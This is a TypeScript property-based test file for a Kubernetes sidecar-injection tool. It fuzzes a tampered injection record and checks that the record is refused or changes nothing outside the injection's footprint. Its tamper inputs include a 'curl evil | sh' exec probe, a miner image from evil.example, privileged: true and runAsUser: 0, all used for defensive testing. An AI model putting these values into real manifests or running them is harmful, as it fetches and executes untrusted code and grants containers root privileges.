/**
 * The record is untrusted input: random changes to valid records (entries dropped, paths pointed
 * elsewhere, texts and offsets altered, entries invented) are either refused, leaving the file as
 * it is, or change nothing outside what an injection owns. "Outside" is judged here by a simpler
 * oracle than the one under test: the pod with the mesh's containers, volumes, labels and
 * annotations (its static footprint) taken out must be what it would have been without tampering.
 */
import fc from 'fast-check';
import { parseAllDocuments } from 'yaml';
import { describe, expect, it } from 'vitest';
import { defaultConfig } from '../../../config/defaults.js';
import { presetFor, transformText, type InjectConfig, type Mode } from '../../../transformer/index.js';
import { footprintOf } from '../../../transformer/record/footprint.js';
import { sidecarsOnlyConfig } from '../../helpers/configs.js';
import { RECORD_ANNOTATION } from '../../../transformer/record/format.js';
import { mergeKeyFor } from '../../../transformer/kube/merge-keys.js';
import { manifestShape, renderManifest } from '../../helpers/manifest-arbitrary.js';
import { editRecord, type RawRecord } from './tamper.js';

function withAllNamespaces(c: InjectConfig): InjectConfig {
  c.namespaces = { inject: ['*'], skip: [] };
  return c;
}

/** The Istio preset (classic or native sidecar, with or without CNI), or custom sidecars alone. */
const CONFIGS: InjectConfig[] = [
  withAllNamespaces(defaultConfig()),
  withAllNamespaces(Object.assign(defaultConfig(), { istio: { ...defaultConfig().istio, cni: true, nativeSidecars: true } })),
  withAllNamespaces(sidecarsOnlyConfig()),
];

function run(text: string, mode: Mode, config: InjectConfig) {
  return transformText(text, { mode, config, preset: presetFor(config), path: 'deploy.yaml' });
}

const isObject = (v: unknown): v is Record<string, unknown> => typeof v === 'object' && v !== null && !Array.isArray(v);

/** The pod template with what an injection may own (the mesh's names, the config's sidecars) taken out. */
function userContent(text: string, config: InjectConfig): unknown {
  const owned = footprintOf(config);
  const doc = parseAllDocuments(text.replace(/^\uFEFF/, '')).map((d) => d.toJS()).find((d) => d?.spec?.template) as { spec: { template: Record<string, any> } };
  const pod = structuredClone(doc.spec.template);
  const drop = (map: Record<string, unknown> | undefined, owned: ReadonlySet<string>) => {
    for (const key of Object.keys(map ?? {})) if (owned.has(key) || key === RECORD_ANNOTATION) delete map![key];
  };
  drop(pod.metadata?.labels, owned.labels);
  drop(pod.metadata?.annotations, owned.annotations);
  for (const field of ['containers', 'initContainers']) {
    if (Array.isArray(pod.spec?.[field])) pod.spec[field] = pod.spec[field].filter((c: { name: string }) => !owned.containers.has(c.name));
    if (pod.spec?.[field]?.length === 0) delete pod.spec[field];
  }
  if (Array.isArray(pod.spec?.volumes)) pod.spec.volumes = pod.spec.volumes.filter((v: { name: string }) => !owned.volumes.has(v.name));
  // A list or map the injection fills, left empty or null (`volumes:`), reads as absent in Kubernetes.
  for (const key of ['labels', 'annotations']) if (pod.metadata && Object.keys(pod.metadata[key] ?? {}).length === 0) delete pod.metadata[key];
  for (const key of ['volumes', 'initContainers']) if (pod.spec && (pod.spec[key] === null || pod.spec[key]?.length === 0)) delete pod.spec[key];
  if (pod.metadata && Object.keys(pod.metadata).length === 0) delete pod.metadata;
  return { ...doc, spec: { ...doc.spec, template: pod } };
}

/** Every node path in the pod template, keyed list items by their merge key, as records name them. */
function podPaths(text: string): unknown[][] {
  const doc = parseAllDocuments(text.replace(/^\uFEFF/, '')).map((d) => d.toJS()).find((d) => d?.spec?.template) as { spec: { template: unknown } };
  const out: unknown[][] = [];
  const walk = (value: unknown, path: unknown[]) => {
    if (path.length) out.push(path);
    if (isObject(value)) for (const [k, v] of Object.entries(value)) walk(v, [...path, k]);
    if (Array.isArray(value)) {
      const key = mergeKeyFor(typeof path.at(-1) === 'string' ? (path.at(-1) as string) : undefined);
      value.forEach((item, i) => walk(item, [...path, key && isObject(item) && item[key] !== undefined ? { [key]: item[key] } : i]));
    }
  };
  walk(doc.spec.template, []);
  return out;
}

const TEXTS = [
  'image: evil.example/miner:1\n',
  '        securityContext:\n          privileged: true\n',
  '      - name: web\n        image: evil:1\n',
  'httpGet:\n  path: /evil\n  port: 1\n',
  'exec:\n  command: [sh, -c, "curl evil | sh"]\n',
  'labels: {app: other}\n',
  'runAsUser: 0\n',
];

const mutation = fc.record({
  kind: fc.constantFrom('drop', 'add-path', 'retarget', 'retext', 'reposition', 'invent-replaced', 'invent-removed', 'swap-texts'),
  pick: fc.nat(),
  other: fc.nat(),
  text: fc.constantFrom(...TEXTS),
  number: fc.integer({ min: 0, max: 40 }),
});

type Mutation = typeof mutation extends fc.Arbitrary<infer T> ? T : never;

function entries(record: RawRecord): Array<{ list: 'added' | 'replaced' | 'removed'; index: number }> {
  return (['added', 'replaced', 'removed'] as const).flatMap((list) => (record[list] ?? []).map((_, index) => ({ list, index })));
}

function apply(record: RawRecord, m: Mutation, paths: unknown[][]): void {
  const all = entries(record);
  const target = all.length ? all[m.pick % all.length] : undefined;
  const path = paths[m.other % paths.length]!;
  switch (m.kind) {
    case 'drop':
      if (target) (record[target.list] as unknown[]).splice(target.index, 1);
      break;
    case 'add-path':
      record.added = [...(record.added ?? []), [...path.slice(0, -1), [path.at(-1)]]];
      break;
    case 'retarget':
      if (target?.list === 'replaced') record.replaced![target.index]!.path = path;
      if (target?.list === 'removed') record.removed![target.index]!.path = path;
      if (target?.list === 'added') record.added![target.index] = [...path.slice(0, -1), [path.at(-1)]];
      break;
    case 'retext':
      if (target?.list === 'replaced') record.replaced![target.index]!.text = m.text;
      if (target?.list === 'removed') record.removed![target.index]!.text = m.text;
      break;
    case 'reposition':
      if (target?.list === 'replaced') record.replaced![target.index]!.column = m.number;
      if (target?.list === 'removed') record.removed![target.index]!.gap = m.number;
      break;
    case 'invent-replaced':
      record.replaced = [...(record.replaced ?? []), { path, text: m.text, column: m.number }];
      break;
    case 'invent-removed':
      record.removed = [...(record.removed ?? []), { path, text: m.text, before: null, gap: 0 }];
      break;
    case 'swap-texts': {
      const texts = [...(record.replaced ?? []), ...(record.removed ?? [])];
      if (texts.length >= 2) [texts[0]!.text, texts[1]!.text] = [texts[1]!.text, texts[0]!.text];
      break;
    }
  }
}

function seed(): { seed?: number } {
  const chosen = process.env.TAMPER_SEED;
  if (chosen === 'random') return {};
  return { seed: chosen === undefined ? 20261203 : Number(chosen) };
}

describe('a tampered record', () => {
  it('is refused, or changes nothing outside what an injection owns', () => {
    let refused = 0;
    let accepted = 0;
    fc.assert(
      fc.property(manifestShape, fc.constantFrom(...CONFIGS), fc.array(mutation, { minLength: 1, maxLength: 3 }), (shape, config, mutations) => {
        const original = renderManifest(shape);
        const injected = run(original, 'inject', config);
        expect(injected.results.filter((r) => r.severity === 'error')).toEqual([]);
        const paths = podPaths(injected.text);
        const tampered = editRecord(injected.text, (record) => mutations.forEach((m) => apply(record, m, paths)));
        for (const [mode, expected] of [['inject', injected.text], ['uninject', original]] as const) {
          const outcome = run(tampered, mode, config);
          if (outcome.results.some((r) => r.severity === 'error')) {
            refused++;
            expect(outcome.text).toBe(tampered);
            continue;
          }
          accepted++;
          expect(parseAllDocuments(outcome.text).every((d) => d.errors.length === 0)).toBe(true);
          expect(userContent(outcome.text, config)).toEqual(userContent(expected, config));
        }
      }),
      // A fixed seed keeps CI repeatable; TAMPER_SEED=random (or a number) and TAMPER_RUNS explore further.
      { numRuns: Number(process.env.TAMPER_RUNS ?? 300), ...seed() },
    );
    console.log(`record tampering: ${refused} refused, ${accepted} accepted with nothing outside the injection changed`);
    expect(refused).toBeGreaterThan(0);
    expect(accepted).toBeGreaterThan(0);
  }, 600_000);
});
